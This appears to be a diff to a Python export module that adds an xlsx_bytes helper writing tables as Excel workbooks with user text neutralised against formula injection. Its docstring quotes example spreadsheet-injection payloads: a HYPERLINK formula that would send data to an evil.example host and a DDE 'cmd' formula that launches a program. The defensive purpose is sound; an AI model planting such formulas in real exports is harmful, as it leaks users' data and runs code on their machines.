@@ -5,10 +5,11 @@ programs, a tab or carriage return) as a formula: ``=HYPERLINK("http://evil.exam
 typed into a plan field would leak data, ``=cmd|' /C calc'!A0`` would run a program. Every
 export (CSV downloads, the yearly report's workbook, footprint and import tables) writes text
 through :func:`safe_text` (CSV: the OWASP advice, a leading apostrophe) or
-:func:`neutralise_workbook` (Excel: the cell typed as text with Excel's quote prefix).
+:func:`neutralise_workbook` (Excel: the cell typed as text with Excel's quote prefix);
+:func:`xlsx_bytes` writes a table as a one-sheet workbook that way.
 Numbers stay numbers; text that is itself a plain number (``-12,5``) is left alone.
 
-May import: :mod:`nettonul.engine.core` and the standard library.
+May import: :mod:`nettonul.engine.core`, openpyxl and the standard library.
 """
 
 from __future__ import annotations
@@ -65,3 +66,35 @@ def neutralise_workbook(workbook: Any) -> int:
                     cell.quotePrefix = True
                     changed += 1
     return changed
+
+
+def xlsx_bytes(rows: Iterable[Sequence[Any]], *, sheet: str = "Data",
+               number_format: str | Sequence[str | None] | None = None) -> bytes:
+    """Rows (the first one the header, in bold and frozen) as an Excel workbook of one sheet.
+
+    Numbers stay numbers (``number_format``, one for every numeric cell or one per column,
+    decides how they show; the stored value keeps every digit), and text cells go through
+    :func:`neutralise_workbook`, so nothing a user typed runs as a formula."""
+    from openpyxl import Workbook  # imported here: only Excel downloads pay for it
+    from openpyxl.styles import Font
+
+    book = Workbook()
+    ws = book.active
+    ws.title = sheet[:31]  # Excel's limit on sheet names
+    for n, row in enumerate(rows):
+        ws.append(list(row))
+        if n == 0:
+            for cell in ws[1]:
+                cell.font = Font(bold=True)
+            ws.freeze_panes = "A2"
+    if number_format is not None:
+        for line in ws.iter_rows(min_row=2):
+            for j, cell in enumerate(line):
+                fmt = number_format if isinstance(number_format, str) else (
+                    number_format[j] if j < len(number_format) else None)
+                if fmt and isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool):
+                    cell.number_format = fmt
+    neutralise_workbook(book)
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
